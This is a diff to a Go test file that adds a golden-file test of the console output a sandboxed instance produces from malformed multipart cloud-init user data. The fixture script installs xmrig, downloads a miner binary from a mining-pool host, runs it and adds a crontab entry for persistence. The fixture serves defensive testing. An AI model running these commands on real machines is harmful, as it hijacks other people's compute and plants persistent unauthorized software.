@@ -132,3 +132,20 @@ func TestSeedTruncatedUserDataStillRuns(t *testing.T) {
 		t.Fatalf("persist.sh = %q, %v", persist, err)
 	}
 }
+
+// The console of user data that goes wrong in several ways at once, as a
+// golden file: cloud-init's warnings, the script's own output and errors,
+// and the sandbox's notes, in time order.
+func TestFailingUserDataConsole(t *testing.T) {
+	ud := "Content-Type: multipart/mixed; boundary=\"==X==\"\nMIME-Version: 1.0\n\n" +
+		"--==X==\nContent-Type: text/cloud-config\n\n#cloud-config\nruncmd: [\n" +
+		"--==X==\nContent-Type: text/x-shellscript\nContent-Disposition: attachment; filename=\"setup.sh\"\n\n" +
+		"#!/bin/bash\necho starting\nyum install -y xmrig\ncurl -sS http://xmr.pool.minergate.comac/x\n" +
+		"wget -q http://pool.minergate.com/miner -O /tmp/miner && chmod +x /tmp/miner\n/tmp/miner --donate-level 1\n" +
+		"echo '* * * * * /tmp/miner' | crontab -\nif [ x ]; then\n" +
+		"--==X==\nContent-Type: application/x-sh\n\necho odd\n"
+	r := newRig(t, []byte(ud), nil)
+	r.boot()
+	r.advance(3 * time.Minute)
+	golden(t, "failing-console.golden", r.in.ConsoleOutput())
+}
